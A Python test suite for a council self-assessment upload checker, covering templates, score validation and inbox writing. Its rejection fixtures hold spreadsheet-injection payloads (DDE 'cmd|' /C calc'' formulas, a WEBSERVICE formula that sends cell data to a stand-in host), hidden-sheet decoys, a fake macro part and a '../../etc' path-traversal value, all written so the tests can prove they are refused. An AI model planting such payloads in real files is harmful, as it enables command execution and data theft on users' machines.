"""Submissions: the blank template, the upload check (every bad upload named by row and
problem) and the inbox writer. Bad uploads are also driven through the real page (AppTest)
to show nothing reaches the inbox or the warehouse."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from dashboard.selfassessment import template
from etl import submission
from etl.formulas import starts_like_formula
from etl.warehouse import WarehousePaths
from tests.support import sa_fixture
from tests.support.stamps import fixed_stamp

ROUND = "2024"


@pytest.fixture(scope="module")
def council(authorities):
    """A London borough that published nothing in the fixture."""
    return sa_fixture.layout(authorities)["silent_london"][0]


@pytest.fixture(scope="module")
def good_frame(sa_questions, council):
    return sa_fixture.filled_rows(template.template_csv(sa_questions, council, ROUND, stamp=fixed_stamp()), 3)


# -- the template ----------------------------------------------------------------------------
def test_template_csv_has_one_row_per_question_with_levels_and_empty_score(sa_questions, council):
    frame = pd.read_csv(io.BytesIO(template.template_csv(sa_questions, council, ROUND, stamp=fixed_stamp())), dtype=str,
                        keep_default_na=False, encoding="utf-8-sig")
    assert sorted(frame["question_id"]) == sorted(sa_questions["question_id"])
    assert (frame["score"] == "").all()
    assert (frame["council"] == council).all() and (frame["round"] == ROUND).all()
    by_id = sa_questions.set_index("question_id")
    for row in frame.itertuples():
        assert row.question == by_id.at[row.question_id, "text"]
        assert row.role == by_id.at[row.question_id, "role"]
        assert row.level_4 == by_id.at[row.question_id, "level_4"]


def test_template_xlsx_is_macro_free_and_matches_csv(sa_questions, council):
    data = template.template_xlsx(sa_questions, council, ROUND, stamp=fixed_stamp())
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not any("vbaproject" in n.lower() for n in names)
    sheet = load_workbook(io.BytesIO(data))[submission.SHEET_NAME]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == template.TEMPLATE_COLUMNS
    assert [r[3] for r in rows[1:]] == sa_questions["question_id"].tolist()
    assert all(r[-1] in (None, "") for r in rows[1:])


def test_blank_template_leaves_council_and_round_to_fill(sa_questions):
    frame = template.template_frame(sa_questions)
    assert (frame["council"] == "").all() and (frame["round"] == "").all()


def test_framework_id_changes_when_a_question_is_reworded(sa_questions):
    reworded = sa_questions.copy()
    reworded.loc[0, "text"] = reworded.loc[0, "text"] + " (revised)"
    assert submission.framework_id(reworded) != submission.framework_id(sa_questions)
    assert submission.framework_id(sa_questions.iloc[::-1]) == submission.framework_id(sa_questions)


# -- good uploads ----------------------------------------------------------------------------
def test_filled_csv_passes_and_preview_shows_scores_and_meaning(good_frame, sa_questions, council):
    scores = {q: i % 5 + 1 for i, q in enumerate(sa_questions["question_id"])}
    frame = good_frame.assign(score=good_frame["question_id"].map(lambda q: str(scores[q])))
    result = submission.check_upload(sa_fixture.to_csv_bytes(frame), "mine.csv", council, ROUND, sa_questions)
    assert result.ok, result.messages()
    got = dict(zip(result.answers["question_id"], result.answers["score"], strict=True))
    assert got == scores
    first = result.answers.iloc[0]
    level = sa_questions.set_index("question_id").at[first["question_id"], f"level_{first['score']}"]
    assert first["meaning"] == level


def test_filled_xlsx_with_numeric_scores_passes(sa_questions, council):
    book = load_workbook(io.BytesIO(template.template_xlsx(sa_questions, council, ROUND, stamp=fixed_stamp())))
    sheet = book[submission.SHEET_NAME]
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row=row, column=len(template.TEMPLATE_COLUMNS)).value = 4.0  # Excel's numbers are floats
    buffer = io.BytesIO()
    book.save(buffer)
    result = submission.check_upload(buffer.getvalue(), "mine.xlsx", council, "2024", sa_questions)
    assert result.ok, result.messages()
    assert set(result.answers["score"]) == {4}


def test_round_given_in_another_spelling_is_the_same_round(good_frame, sa_questions, council):
    result = submission.check_upload(sa_fixture.to_csv_bytes(good_frame.assign(round="FY2024")),
                                     "x.csv", council, "2024/25", sa_questions)
    assert result.ok, result.messages()


# -- bad uploads -----------------------------------------------------------------------------
def _xlsx(frame: pd.DataFrame, formula_at: tuple[int, int] | None = None, macro: bool = False,
          edit=None) -> bytes:
    """``frame`` as a workbook; ``edit(book, sheet)`` may change it before it is saved."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = submission.SHEET_NAME
    sheet.append(list(frame.columns))
    for record in frame.itertuples(index=False):
        sheet.append(list(record))
    if formula_at:
        sheet.cell(row=formula_at[0], column=formula_at[1]).value = "=2+1"
    if edit:
        edit(book, sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if macro:  # what Excel writes into a macro-enabled workbook
        data = _with_parts(data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake vba"})
    return data


def _with_parts(data: bytes, parts: dict[str, bytes], replace: dict[bytes, bytes] | None = None) -> bytes:
    """The workbook ``data`` with extra zip ``parts`` and byte replacements inside its sheets."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            for old, new in (replace or {}).items():
                if item.filename.startswith("xl/worksheets/"):
                    content = content.replace(old, new)
            dst.writestr(item, content)
        for name, content in parts.items():
            dst.writestr(name, content)
    return out.getvalue()


def _edit(frame: pd.DataFrame, row: int, column: str, value: str) -> pd.DataFrame:
    """``frame`` with the cell on spreadsheet ``row`` (header = 1) set to ``value``."""
    out = frame.copy()
    out.loc[row - 2, column] = value
    return out


def _hidden_sheet(title: str, rows: list[list[object]], state: str = "hidden"):
    def edit(book, _sheet):
        extra = book.create_sheet(title)
        for record in rows:
            extra.append(record)
        extra.sheet_state = state
    return edit


def _answers_hidden_behind_a_decoy(good: pd.DataFrame):
    """The answer sheet (read by name) hidden; a visible first sheet shows other scores."""
    def edit(book, sheet):
        sheet.sheet_state = "hidden"
        decoy = book.create_sheet("Answers", 0)
        decoy.append(list(good.columns))
        for record in good.assign(score="1").itertuples(index=False):
            decoy.append(list(record))
        book.active = 0
    return edit


def _defined_name(book, _sheet):
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["Scores"] = DefinedName("Scores", attr_text="'Self-assessment'!$P$2:$P$30")


def _hidden_row(_book, sheet):
    sheet.row_dimensions[3].hidden = True


EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>')


def _bad_cases(good: pd.DataFrame, council: str) -> dict[str, tuple[bytes, str, int | None, str]]:
    """Every bad upload by name: (bytes, file name, the row the report must name, a phrase of its reason)."""
    as_csv = sa_fixture.to_csv_bytes
    score_col = template.TEMPLATE_COLUMNS.index("score") + 1
    latin = good.copy()
    latin.loc[0, "question"] = latin.loc[0, "question"] + " £5 budget"
    duplicate = pd.concat([good, good.iloc[[0]]], ignore_index=True)
    headerless = good.assign(**{"": ""})
    headerless.loc[3, ""] = "=cmd|' /C calc'!A0"
    twice_scored = good.assign(score2="5").rename(columns={"score2": "score"})
    numeric = good.assign(score=4).astype({"score": object})  # whole numbers, as Excel stores them
    numeric.loc[6, "score"] = 4.25  # a placeholder the byte replacements below rewrite

    def bad_score(row: int, text: str) -> tuple[bytes, str, int, str]:
        return as_csv(_edit(good, row, "score", text)), "x.csv", row, "whole number from 1 to 5"

    cases = {
        "unknown question": (as_csv(_edit(good, 3, "question_id", "ZZ9")), "x.csv", 3, "unknown question"),
        "missing answer": (as_csv(_edit(good, 5, "score", "")), "x.csv", 5, "missing answer"),
        "score above 5": bad_score(4, "7"),
        "score zero": bad_score(6, "0"),
        "half score": bad_score(7, "2.5"),
        "score in words": bad_score(8, "three"),
        "wrong council": (as_csv(_edit(good, 2, "council", "E08000025")), "x.csv", 2, "wrong council"),
        "missing council": (as_csv(_edit(good, 9, "council", "")), "x.csv", 9, "missing council"),
        "wrong round": (as_csv(_edit(good, 10, "round", "2019")), "x.csv", 10, "wrong round"),
        "old framework": (as_csv(good.assign(framework="fw-000000000000")), "x.csv", 2, "wrong framework"),
        "question left out": (as_csv(good.drop(index=4)), "x.csv", None, "wrong framework"),
        "answered twice": (as_csv(duplicate), "x.csv", len(duplicate) + 1, "answered twice"),
        "csv formula": (as_csv(_edit(good, 11, "score", "=1+2")), "x.csv", 11, "formula"),
        "csv formula in text": (as_csv(_edit(good, 12, "question", "@SUM(A1)")), "x.csv", 12, "formula"),
        "xlsx formula": (_xlsx(good, formula_at=(6, score_col)), "x.xlsx", 6, "formula"),
        "xlsx with macros": (_xlsx(good, macro=True), "x.xlsx", None, "macros"),
        "xlsm file": (_xlsx(good), "x.xlsm", None, "macros"),
        "old xls file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "x.xls", None, "macros"),
        "not a template type": (as_csv(good), "x.txt", None, "only .csv and .xlsx"),
        "empty file": (b"", "x.csv", None, "empty"),
        "header only": (as_csv(good.iloc[0:0]), "x.csv", None, "no answers"),
        "oversized": (as_csv(good) + b"," * (submission.MAX_UPLOAD_BYTES + 1), "x.csv", None, "limit"),
        "latin-1 encoding": (latin.to_csv(index=False).encode("cp1252"), "x.csv", None, "encoding"),
        "utf-16 encoding": (good.to_csv(index=False).encode("utf-16"), "x.csv", None, "encoding"),
        "score column missing": (as_csv(good.drop(columns="score")), "x.csv", 1, "required column"),
        "renamed zip": (_xlsx(good), "x.csv", None, "really a zip"),
        "damaged xlsx": (b"PK\x03\x04 not really a workbook", "x.xlsx", None, "not a readable .xlsx"),
        # issue 16 §4: each of these was accepted (or raised) before
        "cell of 200,000 characters": (as_csv(_edit(good, 4, "question", "x" * 200_000)), "x.csv", 4,
                                       "more than 32,767 characters"),
        "csv formula in a column without a header": (as_csv(headerless), "x.csv", 5, "formula"),
        "xlsx formula in a column without a header": (
            _xlsx(good, edit=lambda _b, sh: sh.cell(row=7, column=len(good.columns) + 2, value="=WEBSERVICE(\"http://x\")")),
            "x.xlsx", 7, "formula"),
        "hidden sheet with DDE and WEBSERVICE formulas": (
            _xlsx(good, edit=_hidden_sheet("data", [["=cmd|' /C calc'!A0"], ['=WEBSERVICE("http://x/?"&A1)']])),
            "x.xlsx", None, "hidden sheet"),
        "very hidden sheet": (_xlsx(good, edit=_hidden_sheet("v", [["x"]], "veryHidden")), "x.xlsx", None,
                              "hidden sheet"),
        "answers on a hidden sheet behind a visible decoy": (
            _xlsx(good.assign(score="5"), edit=_answers_hidden_behind_a_decoy(good)), "x.xlsx", None, "hidden sheet"),
        "hidden row on the answer sheet": (_xlsx(good, edit=_hidden_row), "x.xlsx", None, "hidden rows"),
        "external link part": (_with_parts(_xlsx(good), {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}),
                               "x.xlsx", None, "external links"),
        "defined name": (_xlsx(good, edit=_defined_name), "x.xlsx", None, "defined names"),
        "text starting -2+3+cmd": (as_csv(_edit(good, 5, "question", "-2+3+cmd|' /C calc'!A0")), "x.csv", 5, "formula"),
        "text starting with a tab and a formula": (as_csv(_edit(good, 6, "theme", "\t=1+2")), "x.csv", 6, "formula"),
        "score as an Arabic-Indic digit": bad_score(3, "\u0663"),
        "score as a full-width digit": bad_score(4, "\uff13"),
        "score as a Thai digit": bad_score(5, "\u0e53"),
        "score in exponent form": bad_score(6, "3e0"),
        "score a hair below 5": bad_score(7, "4.99999999999999999"),
        "xlsx score stored as 4.99999999999999999": (
            _with_parts(_xlsx(numeric), {}, {b"<v>4.25</v>": b"<v>4.99999999999999999</v>"}), "x.xlsx", 8,
            "whole number from 1 to 5"),
        "xlsx score stored as 3e0": (_with_parts(_xlsx(numeric), {}, {b"<v>4.25</v>": b"<v>3e0</v>"}), "x.xlsx", 8,
                                     "whole number from 1 to 5"),
        "score column twice": (as_csv(twice_scored), "x.csv", 1, "appears twice"),
    }
    assert set(cases) == set(BAD_UPLOADS), set(cases) ^ set(BAD_UPLOADS)
    return cases


BAD_UPLOADS = (
    "unknown question", "missing answer", "score above 5", "score zero", "half score", "score in words",
    "wrong council", "missing council", "wrong round", "old framework", "question left out", "answered twice",
    "csv formula", "csv formula in text", "xlsx formula", "xlsx with macros", "xlsm file", "old xls file",
    "not a template type", "empty file", "header only", "oversized", "latin-1 encoding", "utf-16 encoding",
    "score column missing", "renamed zip", "damaged xlsx",
    "cell of 200,000 characters", "csv formula in a column without a header",
    "xlsx formula in a column without a header", "hidden sheet with DDE and WEBSERVICE formulas",
    "very hidden sheet", "answers on a hidden sheet behind a visible decoy", "hidden row on the answer sheet",
    "external link part", "defined name", "text starting -2+3+cmd", "text starting with a tab and a formula",
    "score as an Arabic-Indic digit", "score as a full-width digit", "score as a Thai digit",
    "score in exponent form", "score a hair below 5", "xlsx score stored as 4.99999999999999999",
    "xlsx score stored as 3e0", "score column twice",
)


@pytest.fixture(scope="module")
def bad_cases(good_frame, council):
    return _bad_cases(good_frame, council)


def test_the_xlsx_placeholder_score_is_really_rewritten(bad_cases):
    data = bad_cases["xlsx score stored as 3e0"][0]
    sheet = next(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.startswith("xl/worksheets/"))
    assert b"<v>3e0</v>" in zipfile.ZipFile(io.BytesIO(data)).read(sheet)


@pytest.mark.parametrize("name", BAD_UPLOADS)
def test_bad_upload_is_rejected_naming_row_and_problem(name, bad_cases, sa_questions, council):
    data, filename, row, phrase = bad_cases[name]
    result = submission.check_upload(data, filename, council, ROUND, sa_questions)
    assert not result.ok, name
    assert result.answers.empty
    matching = [p for p in result.problems if phrase in p.reason]
    assert matching, (name, result.messages())
    assert any(p.row == row for p in matching), (name, row, result.messages())
    where = "File" if row is None else f"Row {row}"
    assert any(m.startswith(where) and phrase in m for m in result.messages()), result.messages()


def test_ninety_thousand_bad_rows_give_a_few_examples_and_exact_counts(good_frame, sa_questions, council):
    row = good_frame.iloc[[0]].assign(question_id="NOPE", score="9", round="2019")
    flood = pd.concat([good_frame, *[row] * 9], ignore_index=True)
    data = sa_fixture.to_csv_bytes(pd.concat([flood] + [row] * 90_000, ignore_index=True)[list(good_frame.columns)])
    data = data[: submission.MAX_UPLOAD_BYTES - 1]
    data = data[: data.rindex(b"\n") + 1]  # whole rows under the size limit
    bad_rows = data.count(b"\n") - 1 - len(good_frame)
    assert bad_rows > 1_000
    result = submission.check_upload(data, "x.csv", council, ROUND, sa_questions)
    by_reason = {(p.column, p.reason): p.count for p in result.problems}
    assert by_reason[("question_id", "unknown question: not in the current framework")] == bad_rows
    assert by_reason[("round", f"wrong round: this upload is for round {ROUND}")] == bad_rows
    assert result.problem_count == sum(by_reason.values()) >= 3 * bad_rows
    assert len(result.problems) <= submission.EXAMPLES_PER_PROBLEM * len(by_reason)
    messages = result.messages()
    assert len(messages) <= (submission.EXAMPLES_PER_PROBLEM + 1) * len(by_reason)
    assert f"{bad_rows - submission.EXAMPLES_PER_PROBLEM:,} more place(s) in column question_id" in " ".join(messages)


SCORE_TEXT = st.one_of(
    st.sampled_from(["1", "2", "3", "4", "5", " 3 ", "03", "3.0", "3e0", "+3", "٣", "３", "๓", "𝟑", "⑤", "4.99999999999999999"]),
    st.text(max_size=4),
)


@settings(max_examples=60, deadline=None)
@given(score=SCORE_TEXT)
def test_a_score_is_accepted_only_as_one_of_the_characters_1_to_5(score, good_frame, sa_questions, council):
    frame = _edit(good_frame, 2, "score", score)
    result = submission.check_upload(sa_fixture.to_csv_bytes(frame), "x.csv", council, ROUND, sa_questions)
    accepted = score.strip() in ("1", "2", "3", "4", "5")
    assert result.ok == accepted, (score, result.messages())
    if accepted:
        first = result.answers.set_index("question_id").at[good_frame.loc[0, "question_id"], "score"]
        assert first == int(score.strip())


@settings(max_examples=60, deadline=None)
@given(text=st.text(alphabet=st.sampled_from(list("=+-@\t\r\n 1.e2abc|'")), max_size=8))
def test_the_upload_refuses_exactly_what_the_one_formula_rule_calls_a_formula(text, good_frame, sa_questions,
                                                                             council):
    frame = _edit(good_frame, 3, "question", text)
    out = io.StringIO(newline="")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)  # every cell quoted, so a lone CR stays inside its cell
    writer.writerow(frame.columns)
    writer.writerows(frame.itertuples(index=False))
    result = submission.check_upload(out.getvalue().encode(), "x.csv", council, ROUND, sa_questions)
    refused = any(p.row == 3 and p.column == "question" and "formula" in p.reason for p in result.problems)
    assert refused == starts_like_formula(text), (text, result.messages())


@pytest.mark.parametrize("text, formula", [
    ("=1+2", True), ("+1", True), ("-2+3+cmd|' /C calc'!A0", True), ("@SUM(A1)", True), ("\t=1", True),
    ("\r=1", True), ("  =1", True), ("-12.5", False), ("12", False), ("-1e3", False), ("a=1", False), ("", False),
    ("-٣", True), ("'=1", False),
])
def test_formula_rule(text, formula):
    assert starts_like_formula(text) is formula


def test_every_problem_is_reported_not_just_the_first(good_frame, sa_questions, council):
    bad = _edit(_edit(_edit(good_frame, 3, "score", "9"), 5, "score", ""), 7, "question_id", "NOPE")
    result = submission.check_upload(sa_fixture.to_csv_bytes(bad), "x.csv", council, ROUND, sa_questions)
    rows = {p.row for p in result.problems}
    assert {3, 5, 7} <= rows


# -- the page: bad uploads never reach the inbox or the warehouse ----------------------------
@pytest.fixture
def page_live(sa_live, tmp_path):
    return sa_fixture.copy_warehouse(sa_live, tmp_path / "wh")


@pytest.fixture
def submit_page(page_live, open_page):
    """The Submit page for a council and the round, on the fixture copy."""
    return lambda council: open_page(page_live, "submit", council=council, round=ROUND)


def test_bad_uploads_through_the_page_change_nothing(page_live, submit_page, good_frame, council):
    folder = page_live.parent
    before = sa_fixture.tree_hash(folder)
    at = submit_page(council)
    for name, (data, filename, _row, phrase) in _bad_cases(good_frame, council).items():
        at.file_uploader(key="upload").set_value((filename, data, "application/octet-stream")).run()
        assert not at.exception, (name, at.exception)
        assert at.error and "cannot be submitted" in at.error[0].value, name
        shown = " ".join(str(v) for frame in at.dataframe for v in frame.value.to_numpy().ravel())
        assert phrase in shown, (name, shown[:300])
        assert not [b for b in at.button if b.key == "submit"], name
    assert sa_fixture.tree_hash(folder) == before
    assert not WarehousePaths(page_live).inbox.exists()


def test_good_upload_on_the_page_writes_exact_bytes_and_manifest(page_live, submit_page, good_frame, council):
    data = sa_fixture.to_csv_bytes(good_frame)
    versions_before = sa_fixture.tree_hash(page_live.parent / "exemplar.versions")
    at = submit_page(council)
    at.file_uploader(key="upload").set_value(("filled.csv", data, "text/csv")).run()
    assert not at.error, [e.value for e in at.error]
    at.button(key="submit").click().run()
    assert at.success, "no confirmation shown"
    at.run()  # a rerun (or a second visit in the session) must not queue the same file again
    assert not [b for b in at.button if b.key == "submit"]
    inbox = WarehousePaths(page_live).inbox
    (folder,) = [p for p in inbox.iterdir() if p.is_dir()]
    manifest = json.loads((folder / submission.MANIFEST_NAME).read_text())
    stored = (folder / manifest["file"]).read_bytes()
    assert stored == data
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["council"] == council and manifest["round"] == ROUND
    assert manifest["original_filename"] == "filled.csv" and manifest["published"] is True
    assert sa_fixture.tree_hash(page_live.parent / "exemplar.versions") == versions_before


def test_write_to_inbox_refuses_a_non_code_council(tmp_path):
    with pytest.raises(ValueError):
        submission.write_to_inbox(tmp_path, b"x", "a.csv", "../../etc", ROUND, "fw")
    assert not any(tmp_path.iterdir())


def test_the_page_shows_the_exact_count_and_only_the_first_examples(submit_page, good_frame, sa_questions, council):
    # the flood rows carry no descriptive text (levels, the template's about_* stamp), so
    # 11,000 of them stay under the upload size limit
    described = [c for c in good_frame.columns if c.startswith("about_")]
    blank = {c: "" for c in ("theme", "role", "question", *submission.LEVEL_COLUMNS, *described)}
    row = good_frame.iloc[[0]].assign(question_id="NOPE", score="9", **blank)
    data = sa_fixture.to_csv_bytes(pd.concat([good_frame] + [row] * 11_000, ignore_index=True))
    expected = submission.check_upload(data, "x.csv", council, ROUND, sa_questions)
    assert expected.problem_count >= 22_000, expected.messages()
    at = submit_page(council)
    at.file_uploader(key="upload").set_value(("flood.csv", data, "text/csv")).run()
    assert not at.exception, at.exception
    assert f"{expected.problem_count:,} problem(s)" in at.error[0].value
    (shown,) = [frame.value for frame in at.dataframe]
    assert len(shown) == len(expected.messages()) <= 3 * (submission.EXAMPLES_PER_PROBLEM + 1)
